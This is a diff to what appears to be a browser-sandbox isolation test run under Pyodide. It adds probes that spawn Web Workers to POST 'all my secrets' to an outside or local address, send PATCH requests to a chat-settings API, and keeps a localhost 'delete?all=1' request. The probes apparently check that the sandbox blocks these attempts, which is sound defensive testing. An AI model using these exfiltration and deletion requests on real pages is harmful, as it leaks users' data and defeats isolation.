@@ -65,6 +65,26 @@ async def own_package():
     await __import__("pyodide_js").loadPackage(PAGE + "/sixth-1-py3-none-any.whl")
     __import__("sixth")
 
+def by_nested(source):
+    made = js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([source]))))
+    done = asyncio.get_running_loop().create_future()
+    made.onmessage = create_once_callable(lambda event: done.set_result(event.data))
+    made.onerror = create_once_callable(lambda event: done.set_result("refused"))
+    async def waited():
+        if await done != "reached":
+            raise OSError("refused")
+        return "reached"
+    return waited()
+
+SENT = (
+    "fetch('{}', {{ method: 'POST', mode: 'no-cors', body: 'all my secrets' }})"
+    ".then(() => postMessage('reached'), () => postMessage('refused'))"
+)
+AT_ONCE = (
+    "const request = new XMLHttpRequest(); request.open('POST', '{}', false);"
+    "request.send('all my secrets'); postMessage('reached')"
+)
+
 def nested():
     blob = js.Blob.new(to_js([f"importScripts('{PAGE}/theme.mjs')"]))
     made = js.Worker.new(js.URL.createObjectURL(blob))
@@ -76,6 +96,7 @@ def nested():
     return waited()
 
 no_cors = to_js({"mode": "no-cors"}, dict_converter=Object.fromEntries)
+patch = to_js({"method": "PATCH", "body": "{}"}, dict_converter=Object.fromEntries)
 probes = {
     "database": lambda: of_request(js.indexedDB.open("tokenfall")),
     "databases": lambda: js.indexedDB.databases(),
@@ -102,7 +123,12 @@ probes = {
     "the page": lambda: js.fetch(PAGE + "/index.html"),
     "no-cors": lambda: js.fetch(PAGE + "/api/status", no_cors),
     "a program here": lambda: js.fetch("http://" + HOST + "/delete?all=1", no_cors),
-    "https by XMLHttpRequest": lambda: posted("POST", OUT + "?secret"),
+    "settings by PATCH": lambda: js.fetch(PAGE + "/api/chats/a", patch),
+    "settings by PATCH at once": lambda: posted("PATCH", PAGE + "/api/chats/a"),
+    "a worker that asks elsewhere": lambda: by_nested(SENT.format(OUT)),
+    "a worker that asks at once": lambda: by_nested(AT_ONCE.format(OUT)),
+    "a worker that asks a program here": lambda: by_nested(SENT.format("http://" + HOST)),
+    "a worker that asks the page": lambda: by_nested(AT_ONCE.format(PAGE + "/api/status")),
     "localhost by https": lambda: js.fetch("https://" + HOST + "/"),
     "XMLHttpRequest": lambda: posted("POST", "http://" + HOST + "/"),
     "XMLHttpRequest to the page": lambda: posted("GET", PAGE + "/api/status"),
